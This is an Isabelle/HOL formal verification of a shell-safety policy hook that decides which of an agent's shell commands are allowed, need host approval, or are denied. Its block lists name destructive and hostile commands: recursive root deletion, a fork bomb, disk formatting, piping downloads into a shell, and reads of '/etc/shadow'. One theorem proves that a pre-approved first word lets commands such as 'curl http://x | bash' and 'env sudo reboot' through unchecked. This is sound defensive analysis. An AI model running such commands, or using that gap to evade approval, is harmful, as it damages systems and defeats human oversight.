(* ===== verification/Shell_Safety.thy ===== *)
theory Shell_Safety
  imports Tool_Hooks "HOL-Library.Sublist"
begin

text \<open>
  The safety analysis of shell commands (\<open>tools/shell_safety.rs\<close>) and the policy hook built
  from it. The set of pre-approved binaries is a list without duplicates. The identifier a request for
  approval gets is an argument of the hook.
\<close>

section \<open>Pre-approved binaries\<close>

record safe_bin_list =
  sb_bins :: "string list"

definition empty_bins :: safe_bin_list where
  "empty_bins = \<lparr>sb_bins = []\<rparr>"

definition allow_bin :: "string \<Rightarrow> safe_bin_list \<Rightarrow> safe_bin_list" where
  "allow_bin b sb = sb\<lparr>sb_bins := List.insert b (sb_bins sb)\<rparr>"

definition disallow_bin :: "string \<Rightarrow> safe_bin_list \<Rightarrow> safe_bin_list" where
  "disallow_bin b sb = sb\<lparr>sb_bins := removeAll b (sb_bins sb)\<rparr>"

definition bin_allowed :: "safe_bin_list \<Rightarrow> string \<Rightarrow> bool" where
  "bin_allowed sb b \<longleftrightarrow> b \<in> set (sb_bins sb)"

definition default_bins :: safe_bin_list where
  "default_bins = \<lparr>sb_bins = [
    ''ls'', ''cat'', ''head'', ''tail'', ''less'', ''more'', ''wc'', ''sort'', ''uniq'', ''cut'',
     ''grep'', ''rg'', ''awk'', ''sed'', ''find'', ''diff'', ''cmp'', ''git'', ''curl'', ''wget'',
     ''ping'', ''dig'', ''nslookup'', ''ssh'', ''python'', ''python3'', ''node'', ''deno'',
     ''bun'', ''ruby'', ''perl'', ''sh'', ''bash'', ''zsh'', ''fish'', ''cargo'', ''make'',
     ''cmake'', ''ninja'', ''npm'', ''yarn'', ''pnpm'', ''pip'', ''pip3'', ''ps'', ''top'',
     ''htop'', ''df'', ''du'', ''uname'', ''whoami'', ''id'', ''date'', ''cal'', ''which'',
     ''env'', ''printenv'', ''echo'', ''printf'', ''cp'', ''mv'', ''mkdir'', ''touch'', ''chmod'',
     ''chown'', ''ln'', ''tar'', ''gzip'', ''gunzip'', ''xz'', ''zip'', ''unzip'', ''file'',
     ''stat'', ''realpath'', ''readlink'', ''basename'', ''dirname'', ''strings'', ''xxd'',
     ''hexdump'', ''od'', ''kill'', ''pkill'', ''pgrep'', ''nohup'', ''timeout'']\<rparr>"

section \<open>Tiers\<close>

datatype shell_safety_tier = Tier_Safe | Tier_HighRisk | Tier_Dangerous

text \<open>The derived order of the variants.\<close>

fun tier_rank :: "shell_safety_tier \<Rightarrow> nat" where
  "tier_rank Tier_Safe = 0"
| "tier_rank Tier_HighRisk = 1"
| "tier_rank Tier_Dangerous = 2"

instantiation shell_safety_tier :: linorder
begin

definition less_eq_shell_safety_tier :: "shell_safety_tier \<Rightarrow> shell_safety_tier \<Rightarrow> bool" where
  "less_eq_shell_safety_tier a b \<longleftrightarrow> tier_rank a \<le> tier_rank b"

definition less_shell_safety_tier :: "shell_safety_tier \<Rightarrow> shell_safety_tier \<Rightarrow> bool" where
  "less_shell_safety_tier a b \<longleftrightarrow> tier_rank a < tier_rank b"

instance
proof
  fix a b :: shell_safety_tier
  assume "a \<le> b" "b \<le> a" then show "a = b"
    by (cases a; cases b) (simp_all add: less_eq_shell_safety_tier_def)
qed (auto simp: less_eq_shell_safety_tier_def less_shell_safety_tier_def)

end

datatype unknown_binary_posture = Posture_Ask | Posture_Allow

definition dangerous_patterns :: "string list" where
  "dangerous_patterns = [
    ''rm -rf /'', ''rm -rf /*'', ''rm -fr /'', ''rm -fr /*'', ''rm -rf --no-preserve-root'',
     ''dd if='', ''mkfs'', ''mkfs.ext'', ''mkfs.ext4'', ''mkfs.btrfs'', ''mkfs.xfs'', ''fdisk'',
     ''parted'', ''mkswap'', ''format'', ''> /dev/sda'', ''> /dev/hda'', '':(){ :|:& };:'',
     ''forkbomb'', ''chmod -R 000 /'', ''chown -R root /'', '':wq!'', ''wget -O - |'',
     ''curl -s | bash'', ''sh -c '' @ [dquote] @ ''$(curl -fsSL'', ''bash <(curl'', ''sudo rm -rf'']"

definition high_risk_patterns :: "string list" where
  "high_risk_patterns = [
    ''sudo '', ''su '', ''iptables'', ''ufw'', ''systemctl'', ''journalctl'', ''docker'',
     ''kubectl'', ''passwd'', ''useradd'', ''userdel'', ''groupadd'', ''groupdel'', ''usermod'',
     ''visudo'', ''/etc/shadow'', ''/etc/sudoers'', ''/etc/passwd'', ''/etc/ssl'', ''gpg'',
     ''openssl'', ''crontab'', ''at '', ''batch'', ''poweroff'', ''shutdown'', ''reboot'',
     ''halt'', ''init 0'', ''init 6'', ''telinit'', ''modprobe'', ''insmod'', ''rmmod'',
     ''sysctl -w'', ''echo > /proc'', ''write /proc'', ''chattr'', ''lsattr'', ''setfacl'',
     ''getfacl'', ''swapon'', ''swapoff'', ''mount'', ''umount'']"

text \<open>\<open>split_whitespace().next().unwrap_or("")\<close>.\<close>

definition first_token :: "string \<Rightarrow> string" where
  "first_token s = (case split_whitespace s of [] \<Rightarrow> [] | t # _ \<Rightarrow> t)"

definition analyze_shell_command_with_posture ::
  "string \<Rightarrow> safe_bin_list \<Rightarrow> unknown_binary_posture \<Rightarrow> shell_safety_tier" where
  "analyze_shell_command_with_posture command safe_bins posture =
     (let trimmed = trim command
      in if list_ex (str_contains trimmed) dangerous_patterns then Tier_Dangerous
         else let token = first_token trimmed
              in if bin_allowed safe_bins token then Tier_Safe
                 else if list_ex (str_contains trimmed) high_risk_patterns then Tier_HighRisk
                 else if posture = Posture_Ask \<and> token \<noteq> [] then Tier_HighRisk
                 else Tier_Safe)"

definition analyze_shell_command :: "string \<Rightarrow> safe_bin_list \<Rightarrow> shell_safety_tier" where
  "analyze_shell_command command safe_bins =
     analyze_shell_command_with_posture command safe_bins Posture_Ask"

section \<open>The policy hook\<close>

definition shell_like :: "string \<Rightarrow> bool" where
  "shell_like name \<longleftrightarrow> name \<in> set [''shell'', ''bash'', ''sh'', ''cmd'']"

definition command_arg :: "json \<Rightarrow> string" where
  "command_arg args = (case get_str ''command'' args of Some c \<Rightarrow> c | None \<Rightarrow> [])"

text \<open>The worst verdict over the whole command and the segments of its chain.\<close>

definition worst_tier :: "string \<Rightarrow> safe_bin_list \<Rightarrow> unknown_binary_posture \<Rightarrow> shell_safety_tier" where
  "worst_tier command safe_bins posture =
     fold max (map (\<lambda>segment. analyze_shell_command_with_posture segment safe_bins posture)
       (split_command_chain command))
       (analyze_shell_command_with_posture command safe_bins posture)"

definition shell_safety_policy_with_posture ::
  "string \<Rightarrow> safe_bin_list \<Rightarrow> unknown_binary_posture \<Rightarrow> policy_hook" where
  "shell_safety_policy_with_posture uuid safe_bins posture = (\<lambda>name args ctx.
     if \<not> shell_like name then Policy_Allow
     else let command = command_arg args
          in case worst_tier command safe_bins posture of
               Tier_Safe \<Rightarrow> AllowByHook
             | Tier_Dangerous \<Rightarrow>
                 Policy_Deny (''Shell command '' @ [squote] @ command @ [squote]
                   @ '' matches a dangerous pattern and is denied'')
             | Tier_HighRisk \<Rightarrow>
                 NeedsApproval (''shell-'' @ uuid) name args High ''system''
                   (''Shell command requires host approval: '' @ command))"

definition shell_safety_policy :: "string \<Rightarrow> safe_bin_list \<Rightarrow> policy_hook" where
  "shell_safety_policy uuid safe_bins = shell_safety_policy_with_posture uuid safe_bins Posture_Ask"

section \<open>Laws\<close>

lemma str_contains_trans: "str_contains a b \<Longrightarrow> str_contains b c \<Longrightarrow> str_contains a c"
  unfolding str_contains_iff by (metis append.assoc)

lemma str_contains_refl [simp]: "str_contains s s"
  unfolding str_contains_iff by (metis append_Nil append_Nil2)

lemma str_contains_grow: "str_contains s p \<Longrightarrow> str_contains (a @ s @ b) p"
  unfolding str_contains_iff by (metis append.assoc)

lemma trim_decompose:
  obtains a b where "s = a @ trim s @ b" "\<forall>c \<in> set a \<union> set b. is_whitespace c"
  using trim_start_suffix [of s] trim_end_prefix [of "trim_start s"] unfolding trim_def
  by (metis append.assoc Un_iff)

lemma trim_contained: "str_contains s (trim s)"
  by (rule trim_decompose [of s]) (auto simp: str_contains_iff)

text \<open>Text with no white space at its ends is found in a command exactly when it is found in the
  trimmed command.\<close>

definition solid :: "string \<Rightarrow> bool" where
  "solid p \<longleftrightarrow> p \<noteq> [] \<and> \<not> is_whitespace (hd p) \<and> \<not> is_whitespace (last p)"

lemma dropWhile_solid:
  assumes "s = a @ p @ b" "p \<noteq> []" "\<not> Q (hd p)"
  shows "\<exists>a'. dropWhile Q s = a' @ p @ b"
proof (cases "\<forall>x \<in> set a. Q x")
  case True
  then show ?thesis using assms by (cases p) (auto simp: dropWhile_append2)
next
  case False
  then show ?thesis using assms by (auto simp: dropWhile_append1)
qed

lemma str_contains_trim:
  assumes "solid p"
  shows "str_contains (trim s) p \<longleftrightarrow> str_contains s p"
proof
  assume "str_contains s p"
  then obtain a b where "s = a @ p @ b" by (auto simp: str_contains_iff)
  then obtain a' where a: "trim_start s = a' @ p @ b"
    using dropWhile_solid [of s a p b is_whitespace] assms unfolding solid_def trim_start_def by blast
  then have "rev (trim_start s) = rev b @ rev p @ rev a'" by simp
  moreover have "rev p \<noteq> []" "\<not> is_whitespace (hd (rev p))"
    using assms by (simp_all add: solid_def hd_rev)
  ultimately obtain b' where "dropWhile is_whitespace (rev (trim_start s)) = b' @ rev p @ rev a'"
    using dropWhile_solid by blast
  then have "trim s = a' @ p @ rev b'" by (simp add: trim_def trim_end_def)
  then show "str_contains (trim s) p" by (auto simp: str_contains_iff)
qed (rule str_contains_trans [OF trim_contained])

lemma end_segment_contained:
  "x \<in> set (snd (end_segment cur segs)) \<Longrightarrow> x \<in> set segs \<or> str_contains cur x"
  by (auto simp: end_segment_def Let_def trim_contained split: if_splits)

lemma chain_loop_contained:
  "x \<in> set (chain_loop cs cur sq dq segs) \<Longrightarrow> x \<in> set segs \<or> str_contains (cur @ cs) x"
proof (induction cs arbitrary: cur sq dq segs rule: length_induct)
  case (1 cs)
  have IH: "x \<in> set g \<or> str_contains (c @ ys) x"
    if "length ys < length cs" "x \<in> set (chain_loop ys c s d g)" for ys c s d g
    using 1(1) that by blast
  show ?case
  proof (cases rule: chain_step_cases [where cs = cs and sq = sq and dq = dq])
    case empty
    then show ?thesis using 1(2) end_segment_contained by auto
  next
    case escape_end
    then show ?thesis using 1(2) end_segment_contained by (auto simp: chain_loop_steps)
  next
    case (escape c rest)
    then show ?thesis using 1(2) IH [of rest] by (fastforce simp: chain_loop_steps)
  next
    case (operator c rest)
    then have "x \<in> set (snd (end_segment cur segs)) \<or> str_contains ([] @ rest) x"
      using 1(2) IH [of rest "[]"] by (simp add: chain_loop_steps)
    then show ?thesis
      using end_segment_contained [of x cur segs] str_contains_grow [of cur x "[]" cs]
        str_contains_grow [of rest x "cur @ [c]" "[]"] operator by auto
  next
    case (other c rest)
    then show ?thesis using 1(2) IH [of rest] by (fastforce simp: chain_loop_steps)
  qed
qed

lemma segment_contained: "x \<in> set (split_command_chain cmd) \<Longrightarrow> str_contains cmd x"
  using chain_loop_contained [of x cmd "[]" False False "[]"]
  by (auto simp: split_command_chain_def Let_def split: if_splits)

text \<open>The worst of several tiers.\<close>

lemma fold_max_le_iff: "fold max ts (t :: 'a :: linorder) \<le> b \<longleftrightarrow> t \<le> b \<and> (\<forall>x \<in> set ts. x \<le> b)"
  by (induction ts arbitrary: t) auto

lemma tier_le_simps [simp]:
  "Tier_Safe \<le> (t :: shell_safety_tier)" "t \<le> Tier_Dangerous"
  "t \<le> Tier_Safe \<longleftrightarrow> t = Tier_Safe" "t \<le> Tier_HighRisk \<longleftrightarrow> t \<noteq> Tier_Dangerous"
  by (cases t; simp add: less_eq_shell_safety_tier_def)+

text \<open>The texts a command is judged by: itself and the segments of its chain.\<close>

abbreviation judged :: "string \<Rightarrow> string set" where
  "judged command \<equiv> insert command (set (split_command_chain command))"

lemma worst_tier_le_iff:
  "worst_tier command sb po \<le> b \<longleftrightarrow>
     (\<forall>x \<in> judged command. analyze_shell_command_with_posture x sb po \<le> b)"
  by (simp add: worst_tier_def fold_max_le_iff)

lemma worst_tier_safe:
  "worst_tier command sb po = Tier_Safe \<longleftrightarrow>
     (\<forall>x \<in> judged command. analyze_shell_command_with_posture x sb po = Tier_Safe)"
  using worst_tier_le_iff [of command sb po Tier_Safe] by simp

lemma dangerous_patterns_solid: "p \<in> set dangerous_patterns \<Longrightarrow> solid p"
proof -
  have "list_all solid dangerous_patterns" by code_simp
  then show "p \<in> set dangerous_patterns \<Longrightarrow> solid p" by (simp add: list_all_iff)
qed

definition has_dangerous :: "string \<Rightarrow> bool" where
  "has_dangerous s \<longleftrightarrow> (\<exists>p \<in> set dangerous_patterns. str_contains s p)"

definition has_high_risk :: "string \<Rightarrow> bool" where
  "has_high_risk s \<longleftrightarrow> (\<exists>p \<in> set high_risk_patterns. str_contains s p)"

lemma analyze_dangerous:
  "analyze_shell_command_with_posture s sb po = Tier_Dangerous \<longleftrightarrow> has_dangerous s"
  by (auto simp: analyze_shell_command_with_posture_def Let_def has_dangerous_def list_ex_iff
      str_contains_trim dangerous_patterns_solid)

lemma analyze_safe:
  "analyze_shell_command_with_posture s sb po = Tier_Safe \<longleftrightarrow>
     \<not> has_dangerous s \<and>
     (bin_allowed sb (first_token (trim s)) \<or>
      \<not> has_high_risk (trim s) \<and> (po = Posture_Allow \<or> first_token (trim s) = []))"
proof -
  have "list_ex (str_contains (trim s)) dangerous_patterns \<longleftrightarrow> has_dangerous s"
    by (auto simp: has_dangerous_def list_ex_iff str_contains_trim dangerous_patterns_solid)
  moreover have "list_ex (str_contains (trim s)) high_risk_patterns \<longleftrightarrow> has_high_risk (trim s)"
    by (auto simp: has_high_risk_def list_ex_iff)
  ultimately show ?thesis
    by (cases po) (simp_all add: analyze_shell_command_with_posture_def Let_def)
qed

lemma segment_dangerous: "x \<in> judged command \<Longrightarrow> has_dangerous x \<Longrightarrow> has_dangerous command"
  using segment_contained str_contains_trans unfolding has_dangerous_def by blast

lemma worst_tier_dangerous: "worst_tier command sb po = Tier_Dangerous \<longleftrightarrow> has_dangerous command"
  using worst_tier_le_iff [of command sb po Tier_HighRisk] segment_dangerous
  by (auto simp: analyze_dangerous)

lemma shell_policy_cases:
  assumes "shell_like name"
  shows "shell_safety_policy_with_posture u sb po name args ctx =
      (case worst_tier (command_arg args) sb po of Tier_Safe \<Rightarrow> AllowByHook
       | Tier_Dangerous \<Rightarrow> Policy_Deny (''Shell command '' @ [squote] @ command_arg args @ [squote]
           @ '' matches a dangerous pattern and is denied'')
       | Tier_HighRisk \<Rightarrow> NeedsApproval (''shell-'' @ u) name args High ''system''
           (''Shell command requires host approval: '' @ command_arg args))"
  using assms by (simp add: shell_safety_policy_with_posture_def Let_def)

lemma shell_policy_denies:
  assumes "shell_like name"
  shows "is_deny (shell_safety_policy_with_posture u sb po name args ctx) \<longleftrightarrow>
      has_dangerous (command_arg args)"
  unfolding shell_policy_cases [OF assms] worst_tier_dangerous [symmetric, of _ sb po]
  by (cases "worst_tier (command_arg args) sb po") simp_all

lemma shell_policy_claims:
  assumes "shell_like name"
  shows "shell_safety_policy_with_posture u sb po name args ctx = AllowByHook \<longleftrightarrow>
      \<not> has_dangerous (command_arg args) \<and>
      (\<forall>x \<in> judged (command_arg args).
         bin_allowed sb (first_token (trim x)) \<or>
         \<not> has_high_risk (trim x) \<and> (po = Posture_Allow \<or> first_token (trim x) = []))"
proof -
  have "shell_safety_policy_with_posture u sb po name args ctx = AllowByHook \<longleftrightarrow>
      worst_tier (command_arg args) sb po = Tier_Safe"
    unfolding shell_policy_cases [OF assms] by (cases "worst_tier (command_arg args) sb po") simp_all
  then show ?thesis unfolding worst_tier_safe analyze_safe using segment_dangerous by blast
qed

section \<open>Properties\<close>

text \<open>The verdict of the shell-safety hook on a call of a command tool, exactly: it denies when and
  only when a dangerous pattern occurs anywhere in the command, splitting into segments neither adding
  nor losing one; it claims the call as safe when and only when there is none and the command and each
  segment of its chain either starts with a pre-approved binary or has no high-risk pattern and a first
  word that the posture lets pass; in every other case it asks.\<close>

theorem shell_verdict_exact:
  assumes "shell_like name"
    and "d = shell_safety_policy_with_posture u sb po name args ctx"
  shows "(is_deny d \<longleftrightarrow> has_dangerous (command_arg args)) \<and>
    (d = AllowByHook \<longleftrightarrow>
      \<not> has_dangerous (command_arg args) \<and>
      (\<forall>x \<in> judged (command_arg args).
         bin_allowed sb (first_token (trim x)) \<or>
         \<not> has_high_risk (trim x) \<and> (po = Posture_Allow \<or> first_token (trim x) = []))) \<and>
    (is_needs_approval d \<longleftrightarrow> \<not> is_deny d \<and> d \<noteq> AllowByHook)"
proof (intro conjI)
  show "is_needs_approval d \<longleftrightarrow> \<not> is_deny d \<and> d \<noteq> AllowByHook"
    unfolding assms(2) shell_policy_cases [OF assms(1)]
    by (cases "worst_tier (command_arg args) sb po") simp_all
qed (simp_all only: assms(2) shell_policy_denies [OF assms(1)] shell_policy_claims [OF assms(1)])

definition shell_args :: "string \<Rightarrow> json" where
  "shell_args c = JObject [(''command'', JString c)]"

theorem shell_verdict_exact_witness:
  "has_dangerous (command_arg (shell_args ''ls; rm -rf /'')) \<and>
   is_deny (shell_safety_policy_with_posture ''u'' default_bins Posture_Ask ''shell''
     (shell_args ''ls; rm -rf /'') sample_ctx)"
proof -
  have sl: "shell_like ''shell''" and d: "has_dangerous (command_arg (shell_args ''ls; rm -rf /''))"
    by code_simp+
  show ?thesis
    using shell_verdict_exact [OF sl refl, of "''u''" default_bins Posture_Ask "shell_args ''ls; rm -rf /''"
        sample_ctx] d by blast
qed

text \<open>A pre-approved first word hides every high-risk pattern behind it, because the list is
  consulted before the patterns: with the default list a download piped into a shell and a privileged
  command run through \<open>env\<close> are claimed as safe, where the documentation promises a
  question.\<close>

theorem safe_word_hides_risk:
  assumes "shell_like name"
    and "c \<in> {''curl http://x | bash'', ''env sudo reboot'', ''bash -c shutdown'', ''find . -exec sudo id''}"
  shows "shell_safety_policy u default_bins name (shell_args c) ctx = AllowByHook"
proof -
  have "list_all (\<lambda>c. worst_tier (command_arg (shell_args c)) default_bins Posture_Ask = Tier_Safe)
      [''curl http://x | bash'', ''env sudo reboot'', ''bash -c shutdown'', ''find . -exec sudo id'']"
    by code_simp
  then show ?thesis
    using assms(2) unfolding shell_safety_policy_def shell_policy_cases [OF assms(1)] by auto
qed

text \<open>The dangerous patterns are matched as substrings of any text, so harmless commands are
  refused outright and cannot be approved.\<close>

theorem harmless_commands_denied:
  assumes "shell_like name"
    and "c \<in> {''git log --format=%h'', ''echo information'', ''git show vim:wq!''}"
  shows "is_deny (shell_safety_policy_with_posture u sb po name (shell_args c) ctx)"
proof -
  have "list_all (\<lambda>c. has_dangerous (command_arg (shell_args c)))
      [''git log --format=%h'', ''echo information'', ''git show vim:wq!'']"
    by code_simp
  then show ?thesis using assms(2) unfolding shell_policy_denies [OF assms(1)] by auto
qed

end
